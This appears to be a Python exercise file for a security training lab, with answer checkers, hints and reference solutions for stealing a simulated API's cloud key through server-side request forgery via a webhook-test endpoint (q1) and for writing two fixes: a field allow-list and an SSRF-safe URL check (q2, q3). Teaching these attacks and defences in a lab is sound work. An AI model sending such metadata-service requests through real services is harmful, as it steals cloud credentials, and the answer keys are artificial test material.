"""Notebook 08's exercises: steal the API's cloud key through SSRF (q1), then write the two fixes (q2, q3)."""
from __future__ import annotations

import json
from urllib.parse import urlsplit

from ...servers.metadata import CREDENTIALS_PATH, ROLE
from ..common import current_lab, lab_time
from ..exercises import Exercise
from .attacks import metadata_url
from .caller import token_for
from .fixits import EDITABLE, judge_binder, judge_url_check


# -- q1: the metadata service's secret, through the API -------------------------------------------------------
def _fetched_credentials_since(lab, posed) -> bool:
    """Did an API detector record, since *posed* (if the exercise was posed), a webhook test that fetched the keys?

    Unposed (a graded copy of the notebook, where the placeholder never ran), any record since the lab's
    reset counts: the key must still have come through the API.
    """
    return any((posed is None or r["at"] >= posed) and r["detail"].startswith("ssrf:")
               and CREDENTIALS_PATH in r["detail"] for r in lab.store.events(event="exploited"))


def _check_secret(answer) -> str | None:
    lab = current_lab()
    meta = lab.metadata_service
    if not isinstance(answer, str):
        return f"answer with the key itself, a string (got {type(answer).__name__})."
    answer = answer.strip()
    if answer == ROLE:
        return (f"{ROLE!r} is the name of the role the API runs as. Its credentials are one path further: "
                f"add the role's name to the URL.")
    if answer == meta.access_key_id:
        return "that is the AccessKeyId, the key's public half. The secret half is SecretAccessKey."
    if answer == meta.session_token:
        return "that is the session Token. The exercise asks for SecretAccessKey."
    if answer != meta.secret_access_key:
        return "that is not the metadata service's SecretAccessKey: look at the body the webhook test sent back."
    if not _fetched_credentials_since(lab, q1.posed):
        return ("that is the key, but the lab has no record of the API fetching it for you since this exercise was "
                "posed: a lucky answer, or a call straight to the metadata service (an attacker on the internet "
                "reaches only the gateway). Make the API fetch it: a webhook test, through the gateway, with the "
                "ssrf weakness on.")
    return None


def _solve_secret() -> str:
    lab = current_lab()
    with lab.weaknesses.turned_on(ssrf=True), lab.session() as s:
        r = s.post(lab.gateway_url + "/webhooks/test", json={"url": metadata_url(lab, CREDENTIALS_PATH)},
                   headers={"Authorization": f"Bearer {token_for(lab)}"}, timeout=10)
    return json.loads(r.json()["body"])["SecretAccessKey"]


q1 = Exercise(
    "q1 (the API's cloud key, through a webhook test)",
    _check_secret,
    "The webhook test fetches whatever URL you give it once the ssrf weakness is on, and shows you the answer. "
    "Section 7 listed the role at .../iam/security-credentials/; its keys are at .../security-credentials/<role>. "
    "The answer's body is JSON: json.loads() it and take SecretAccessKey.",
    "import json\n"
    "with lab.weaknesses.turned_on(ssrf=True):\n"
    "    r = alice.post(\"/webhooks/test\", json={\"url\": nb08.metadata_url(lab) + \"photo-api-role\"})\n"
    "answer = json.loads(r.json()[\"body\"])[\"SecretAccessKey\"]",
    _solve_secret,
    success="the API fetched its own cloud credentials for you, and the lab recorded it. With those keys an "
            "attacker acts as the API in its cloud account: that is what SSRF costs.",
    pose=lab_time)


# -- q2: a field allow-list for PATCH /me -----------------------------------------------------------------------
def _allow_list(body: dict) -> dict:
    """The reference: an allow-list of what a user may change about themselves."""
    return {k: v for k, v in body.items() if k in EDITABLE}


q2 = Exercise(
    "q2 (fix it: a field allow-list for PATCH /me)",
    judge_binder,
    "Name what a user may change (display_name and email) and keep only those: an allow-list. A list of what "
    "they may *not* change always forgets one field.",
    "def profile_changes(body):\n"
    "    allowed = (\"display_name\", \"email\")          # what a user may change about themselves\n"
    "    return {k: v for k, v in body.items() if k in allowed}\n"
    "\n"
    "answer = profile_changes",
    lambda: _allow_list,
    success="every attack body lost its extra fields, and every honest update went through whole. The hardened "
            "API does the same with a schema: PATCH /me's body may hold display_name and email, nothing else "
            "(additionalProperties: false in its OpenAPI document).")


# -- q3: the check every webhook URL must pass --------------------------------------------------------------
def _public_only(url: str) -> bool:
    """The reference: plain HTTP to 127.0.0.1 on a port of the lab's public zone, nothing else."""
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return False
    return (parts.scheme == "http" and parts.hostname == "127.0.0.1"
            and port in current_lab().network.ports("public"))


q3 = Exercise(
    "q3 (fix it: an SSRF-safe URL check)",
    lambda answer: judge_url_check(answer, current_lab()),
    "Allow what you mean and nothing else: scheme http, host exactly 127.0.0.1, and a port of the public zone "
    "(lab.network.ports('public')). Read the URL with urllib.parse.urlsplit (it knows where user info ends "
    "and the host begins); its .port raises ValueError on nonsense, which must refuse.",
    "from urllib.parse import urlsplit\n"
    "\n"
    "def webhook_allowed(url):\n"
    "    try:\n"
    "        parts = urlsplit(url)\n"
    "        port = parts.port\n"
    "    except ValueError:\n"
    "        return False\n"
    "    return (parts.scheme == \"http\" and parts.hostname == \"127.0.0.1\"\n"
    "            and port in lab.network.ports(\"public\"))\n"
    "\n"
    "answer = webhook_allowed",
    lambda: _public_only,
    success="every spelling of the metadata service, the user-info trick, the redirect inside, the API behind "
            "the gateway and file: were refused, and every public webhook was delivered. An allow-list of "
            "destinations, checked before every request (redirects too), is OWASP's first defence against SSRF.")
